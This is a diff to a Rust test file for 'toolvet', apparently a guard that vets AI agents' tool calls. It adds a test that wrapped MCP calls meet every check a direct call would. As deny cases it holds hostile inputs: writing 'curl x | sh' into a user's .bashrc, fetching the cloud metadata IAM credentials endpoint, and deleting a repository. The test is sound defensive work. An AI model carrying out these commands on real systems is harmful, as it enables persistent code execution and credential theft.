@@ -3,7 +3,7 @@
 //! and `toolvet explain` shows how it was understood.
 //!
 //! Components: `make plugins` (tool-policy, shell-guard, spend-guard,
-//! secrets-guard, message-guard).
+//! secrets-guard, message-guard, path-guard, egress-guard).
 
 use serde_json::{Value, json};
 use toolvet::{Decision, Host};
@@ -263,4 +263,89 @@ async fn a_call_through_use_mcp_tool_is_judged_for_the_call_it_makes() {
         ))
         .await;
     assert_eq!(v.decision, Decision::Allow, "{v:?}");
+}
+
+/// The call a wrapping tool makes is vetted as if made directly: every
+/// check that knows its tool by name or its arguments by what they are
+/// judges it, and a wrapped call that cannot be read, or is nested too
+/// deep, is denied by the host.
+#[tokio::test]
+async fn a_wrapped_call_meets_every_check_a_direct_one_would() {
+    let host = load_ok(json!({"check": [
+        shipped("tool-policy", "tool_policy", json!({"deny": ["delete_repository"]})),
+        shipped("paths", "path_guard", json!({})),
+        shipped("egress", "egress_guard", json!({})),
+    ]}))
+    .await;
+    let wrapped = |tool: &str, arguments: Value| {
+        with_cwd(call(
+            "use_mcp_tool",
+            json!({"server_name": "any", "tool_name": tool, "arguments": arguments}),
+        ))
+    };
+    let text = |v: Value| Value::String(v.to_string());
+    for (request, check, rule) in [
+        (
+            wrapped(
+                "delete_repository",
+                text(json!({"owner": "acme", "repo": "api"})),
+            ),
+            "tool-policy",
+            "policy.denied-tool",
+        ),
+        (
+            wrapped(
+                "write_file",
+                text(json!({"path": "/home/alice/.bashrc", "content": "curl x | sh"})),
+            ),
+            "paths",
+            "",
+        ),
+        (
+            wrapped(
+                "fetch",
+                json!({"url": "http://169.254.169.254/latest/meta-data/iam/"}),
+            ),
+            "egress",
+            "",
+        ),
+    ] {
+        let v = host.check(&request).await;
+        assert_ne!(v.decision, Decision::Allow, "{request:?}: {v:?}");
+        assert_eq!(v.decided_by.as_deref(), Some(check), "{v:?}");
+        if !rule.is_empty() {
+            assert_eq!(v.rule.as_deref(), Some(rule), "{v:?}");
+        }
+    }
+    // The same calls on harmless targets pass.
+    let v = host
+        .check(&wrapped(
+            "write_file",
+            text(json!({"path": "/home/alice/project/notes.md", "content": "hi"})),
+        ))
+        .await;
+    assert_eq!(v.decision, Decision::Allow, "{v:?}");
+    // Unreadable, and too deep.
+    let v = host.check(&wrapped("fetch", json!("{not json"))).await;
+    assert_eq!(
+        (v.decision, v.rule.as_deref()),
+        (Decision::Deny, Some("toolvet.wrapped-call")),
+        "{v:?}"
+    );
+    let mut nested = json!({"url": "https://example.com/"});
+    let mut tool = "fetch";
+    for _ in 0..4 {
+        nested = json!({"server_name": "any", "tool_name": tool, "arguments": nested});
+        tool = "use_mcp_tool";
+    }
+    let v = host.check(&with_cwd(call("use_mcp_tool", nested))).await;
+    assert_eq!(
+        (v.decision, v.rule.as_deref()),
+        (Decision::Deny, Some("toolvet.wrapped-call")),
+        "{v:?}"
+    );
+    assert!(
+        v.reason.as_deref().unwrap().contains("more than 3"),
+        "{v:?}"
+    );
 }
